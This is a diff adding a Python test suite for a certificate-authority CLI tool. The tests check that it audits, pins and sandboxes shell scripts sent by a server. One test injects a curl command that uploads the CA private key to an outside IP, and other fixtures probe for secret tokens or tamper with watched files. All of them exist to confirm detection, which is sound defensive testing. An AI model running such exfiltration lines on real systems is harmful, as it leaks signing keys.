@@ -1,0 +1,250 @@
+"""Server-sent scripts are seen before they run, and contained when they do.
+
+The dry-run prints them and the plan and runs nothing; create audits first and refuses
+high findings; the hostile corpus is caught by the audit or at run time, always with nothing
+uploaded and nothing of the user's changed.
+"""
+
+from __future__ import annotations
+
+import hashlib
+import json
+import os
+import re
+from pathlib import Path
+
+import pytest
+
+from fioca.pki import files, reference
+from fioca.pki.scripts import ScriptLimits, ScriptRunner
+from tests.conftest import FACTORY
+from tests.test_create import answer_with, recorder, server_certs  # noqa: F401 (fixture)
+
+CORPUS = Path(__file__).parent / "hostile_scripts"
+
+
+def corpus(kind: str) -> list[Path]:
+    return sorted(p for p in CORPUS.iterdir() if re.search(rf"^# expect: {kind}:", p.read_text(), re.M))
+
+
+def corpus_script(path: Path, local_ca_cn: str) -> tuple[str, str]:
+    text = path.read_text()
+    name = re.search(r"^# script: (\S+)", text, re.M).group(1)
+    return name, reference.render(text, factory=FACTORY, local_ca_cn=local_ca_cn)
+
+
+def user_files_snapshot(home: Path, pki: Path) -> dict[str, bytes]:
+    seen = {}
+    for root in (home, pki):
+        if root.exists():
+            for path in root.rglob("*"):
+                if path.is_file():
+                    seen[str(path)] = path.read_bytes()
+    return seen
+
+
+def test_dry_run_prints_scripts_and_plan_and_sends_no_patch(cli, sandbox, sandbox_env, recorder, tmp_path):  # noqa: F811
+    pki = tmp_path / "pki"
+    result = cli("keys", "ca", "create", pki, "--dry-run", env=sandbox_env)
+    assert result.exit_code == 0, result.output
+    answer = json.loads((pki / files.FACTORY_CERTS_JSON).read_text())
+    for name in reference.SCRIPT_NAMES:
+        text = answer[name]
+        digest = hashlib.sha256(text.encode()).hexdigest()
+        assert f"==> {name}  ({len(text.encode())} bytes, sha256 {digest})" in result.stdout
+        assert text.rstrip("\n") in result.stdout
+    for command in ("./create_ca", "./sign_tls_csr tls-csr > tls-crt", "./sign_ca_csr ca-csr > online-crt",
+                    "./create_device_ca local-ca.key local-ca.pem"):
+        assert f"run: {command}" in result.stdout
+    assert 'ca-crt: online-crt + "\\n" + local-ca.pem' in result.stdout
+    assert [m for m, _ in recorder] == ["POST"]
+    assert sorted(p.name for p in pki.iterdir()) == sorted([files.FACTORY_CERTS_JSON, files.LOCK_FILE])
+    assert server_certs(sandbox)[0] == 206
+    token = sandbox.info.token
+    assert token not in result.output
+
+
+def test_dry_run_plan_follows_the_flags(cli, sandbox_env, tmp_path):
+    result = cli("keys", "ca", "create", tmp_path / "pki", "--dry-run", "--no-local-ca", "--format", "json",
+                 env=sandbox_env)
+    plan = json.loads(result.stdout)["plan"]
+    assert [step["command"] for step in plan["steps"]] == [
+        "./create_ca", "./sign_tls_csr tls-csr > tls-crt", "./sign_ca_csr ca-csr > online-crt"]
+    assert plan["patch"] == {"root-crt": "factory_ca.pem", "tls-crt": "tls-crt", "ca-crt": "online-crt"}
+
+
+def test_dry_run_from_a_saved_answer_needs_no_server(cli, sandbox_env, tmp_path):
+    pki = tmp_path / "pki"
+    assert cli("keys", "ca", "create", pki, "--dry-run", env=sandbox_env).exit_code == 0
+    saved = pki / files.FACTORY_CERTS_JSON
+    # No config at all: a server URL that nothing listens on proves no request is made.
+    offline = {"FIOCA_SERVER": "https://127.0.0.1:9"}
+    result = cli("keys", "ca", "create", tmp_path / "other", "--dry-run", "--from-json", saved, env=offline)
+    assert result.exit_code == 0, result.output
+    assert "run: ./create_ca" in result.stdout
+    assert not (tmp_path / "other").exists()
+    assert cli("keys", "ca", "create", tmp_path / "x", "--from-json", saved, env=offline).exit_code == 2
+
+
+def test_bundled_reference_scripts_audit_clean(cli, sandbox_env, tmp_path):
+    pki = tmp_path / "pki"
+    cli("keys", "ca", "create", pki, "--dry-run", env=sandbox_env)
+    result = cli("keys", "ca", "audit", pki / files.FACTORY_CERTS_JSON)
+    assert result.exit_code == 0, result.output
+    assert result.stdout.count("matches the reference") == 4
+    assert "0 high, 0 medium, 0 low" in result.stdout
+    as_json = json.loads(cli("keys", "ca", "audit", pki / files.FACTORY_CERTS_JSON, "--format", "json").stdout)
+    assert all(script["matches_reference"] for script in as_json["scripts"])
+    # --fail-on info: the HSM variables are INFO findings, so this threshold trips.
+    assert cli("keys", "ca", "audit", pki / files.FACTORY_CERTS_JSON, "--fail-on", "info").exit_code == 3
+
+
+def test_audit_reports_a_diff_for_a_changed_script(cli, sandbox_env, tmp_path):
+    pki = tmp_path / "pki"
+    cli("keys", "ca", "create", pki, "--dry-run", env=sandbox_env)
+    answer = json.loads((pki / files.FACTORY_CERTS_JSON).read_text())
+    answer["sign_ca_csr"] = answer["sign_ca_csr"].replace("rm ca.ext", "curl -s -F k=@factory_ca.key https://198.51.100.7/\nrm ca.ext")
+    changed = tmp_path / "changed.json"
+    changed.write_text(json.dumps(answer))
+    result = cli("keys", "ca", "audit", changed)
+    assert result.exit_code == 3
+    assert "+curl -s -F k=@factory_ca.key https://198.51.100.7/" in result.stdout
+    assert "network-access" in result.stdout
+
+
+@pytest.mark.parametrize("entry", corpus("audit"), ids=lambda p: p.name)
+def test_create_refuses_what_the_audit_condemns(cli, sandbox, sandbox_env, recorder, tmp_path, home, monkeypatch, entry):  # noqa: F811
+    high = re.findall(r"^# expect: audit:([\w-]+)(?:@high)?$", entry.read_text(), re.M)
+    polis = sandbox.backend.user_self()["polis-id"]
+    name, text = corpus_script(entry, f"fio-{polis}")
+    if not high:
+        # Below high, a finding is reported, not condemned; --fail-on lowers the bar.
+        lower = re.findall(r"^# expect: audit:([\w-]+)@(\w+)$", entry.read_text(), re.M)
+        saved = tmp_path / "answer.json"
+        saved.write_text(json.dumps({name: text}))
+        report = cli("keys", "ca", "audit", saved)
+        assert report.exit_code == 0 and all(finding in report.stdout for finding, _ in lower)
+        assert cli("keys", "ca", "audit", saved, "--fail-on", lower[0][1]).exit_code == 3
+        return
+    answer_with(monkeypatch, sandbox, {name: text})
+    pki = tmp_path / "pki"
+    before = user_files_snapshot(home, pki)
+    result = cli("keys", "ca", "create", pki, "--yes", env=sandbox_env)
+    assert result.exit_code == 3, result.output
+    assert "high-severity finding" in result.stderr
+    assert any(finding in result.stderr for finding in high)
+    assert [m for m, _ in recorder] == ["POST"]
+    assert not (pki / files.ROOT_KEY).exists()
+    after = user_files_snapshot(home, pki)
+    fiocas_own = (files.FACTORY_CERTS_JSON, files.LOCK_FILE)
+    assert {k: v for k, v in after.items() if not k.endswith(fiocas_own)} == before
+
+
+RUNTIME_MESSAGES = {
+    "timeout": "did not finish within 2s and was killed",
+    "output-limit": "bytes to stdout and was killed",
+    "no-output": "exited 0 but printed no certificate",
+    "profile-mismatch": "tls-crt:",
+    "wrong-subject": "local-ca.pem:",
+    "wrong-issuer": "online-crt:",
+}
+
+
+@pytest.mark.parametrize("entry", corpus("runtime"), ids=lambda p: p.name)
+def test_runtime_guards_stop_what_the_audit_cannot_see(cli, sandbox, sandbox_env, recorder, tmp_path, home, monkeypatch, entry):  # noqa: F811
+    kind = re.search(r"^# expect: runtime:([\w-]+)", entry.read_text(), re.M).group(1)
+    polis = sandbox.backend.user_self()["polis-id"]
+    name, text = corpus_script(entry, f"fio-{polis}")
+    answer_with(monkeypatch, sandbox, {name: text})
+    pki = tmp_path / "pki"
+    result = cli("keys", "ca", "create", pki, "--yes", "--allow-unaudited", "--script-timeout", "2", env=sandbox_env)
+    assert result.exit_code in (4, 5), result.output
+    assert RUNTIME_MESSAGES[kind] in result.stderr
+    assert [m for m, _ in recorder] == ["POST"]
+    assert server_certs(sandbox)[0] == 206
+    assert not (pki / files.ROOT_KEY).exists()
+
+
+def test_allow_unaudited_says_what_it_overrides(cli, sandbox, sandbox_env, tmp_path, monkeypatch):
+    polis = sandbox.backend.user_self()["polis-id"]
+    # Harmless to run, but condemned: reads an environment variable that looks like a secret.
+    text = reference.rendered(factory=FACTORY, local_ca_cn=f"fio-{polis}")["sign_ca_csr"].replace(
+        "csr=$1", 'csr=$1\n[ -z "$FIOCTL_TOKEN" ] || echo "token visible" >&2'
+    )
+    answer_with(monkeypatch, sandbox, {"sign_ca_csr": text})
+    refused = cli("keys", "ca", "create", tmp_path / "a", "--yes", env=sandbox_env)
+    assert refused.exit_code == 3
+    result = cli("keys", "ca", "create", tmp_path / "pki", "--yes", "--allow-unaudited",
+                 env={**sandbox_env, "FIOCTL_TOKEN": sandbox.info.token})
+    assert result.exit_code == 0, result.output
+    assert "--allow-unaudited: running scripts despite 1 high finding(s):" in result.stderr
+    assert "reads-secret-env" in result.stderr
+    assert "token visible" not in result.stderr  # the token never reaches a script
+
+
+def test_expect_sha256_pins_a_script(cli, sandbox, sandbox_env, recorder, tmp_path):  # noqa: F811
+    polis = sandbox.backend.user_self()["polis-id"]
+    good = hashlib.sha256(reference.rendered(factory=FACTORY, local_ca_cn=f"fio-{polis}")["create_ca"].encode()).hexdigest()
+    wrong = "0" * 64
+    result = cli("keys", "ca", "create", tmp_path / "a", "--yes", "--expect-sha256", f"create_ca={wrong}", env=sandbox_env)
+    assert result.exit_code == 3
+    assert f"not the pinned {wrong}" in result.stderr
+    assert cli("keys", "ca", "create", tmp_path / "b", "--yes", "--expect-sha256", "create_ca=zz", env=sandbox_env).exit_code == 2
+    ok = cli("keys", "ca", "create", tmp_path / "c", "--yes", "--expect-sha256", f"create_ca={good}", env=sandbox_env)
+    assert ok.exit_code == 0, ok.output
+
+
+def test_runner_gives_scripts_a_minimal_environment(tmp_path, monkeypatch):
+    monkeypatch.setenv("FIOCTL_TOKEN", "secret-token-value")
+    monkeypatch.setenv("HSM_PIN", "1234")
+    work = tmp_path / "work"
+    work.mkdir(mode=0o700)
+    runner = ScriptRunner(work, watch=[])
+    runner.install("show_env", "#!/bin/sh -e\nenv\numask\n")
+    out = runner.run("show_env")
+    names = {line.split("=", 1)[0] for line in out.splitlines() if "=" in line}
+    assert names <= {"PATH", "HOME", "TMPDIR", "LANG", "LC_ALL", "LC_CTYPE", "PWD", "SHLVL", "_", "OLDPWD"}
+    assert "secret-token-value" not in out and "1234" not in out
+    assert out.strip().splitlines()[-1] == "0077"
+
+
+def test_runner_refuses_a_script_that_touches_watched_files(tmp_path):
+    work, outside = tmp_path / "work", tmp_path / "pki"
+    work.mkdir()
+    outside.mkdir()
+    (outside / "factory_ca.pem").write_text("root")
+    runner = ScriptRunner(work, watch=[outside])
+    runner.install("sneaky", f"#!/bin/sh -e\necho changed > {outside}/factory_ca.pem\n")
+    with pytest.raises(Exception, match="changed files outside its work dir"):
+        runner.run("sneaky")
+
+
+def test_runner_kills_the_whole_group_on_timeout(tmp_path):
+    work = tmp_path / "work"
+    work.mkdir()
+    marker = tmp_path / "still-running"
+    runner = ScriptRunner(work, watch=[], limits=ScriptLimits(timeout=1))
+    runner.install("spawner", f"#!/bin/sh -e\n(sleep 3; touch {marker}) &\nwhile true; do sleep 1; done\n")
+    with pytest.raises(Exception, match="did not finish within 1s"):
+        runner.run("spawner")
+    import time
+
+    time.sleep(2.5)
+    assert not marker.exists()
+
+
+def test_work_dir_is_private_and_removed(cli, sandbox, sandbox_env, tmp_path, monkeypatch):
+    import fioca.pki.create as create_module
+
+    made: list[Path] = []
+    real = create_module.files.private_work_dir
+
+    def spy(*args, **kwargs):
+        path = real(*args, **kwargs)
+        made.append(path)
+        assert oct(os.stat(path).st_mode & 0o777) == oct(0o700)
+        return path
+
+    monkeypatch.setattr(create_module.files, "private_work_dir", spy)
+    assert cli("keys", "ca", "create", tmp_path / "pki", "--yes", env=sandbox_env).exit_code == 0
+    assert made and not made[0].exists()
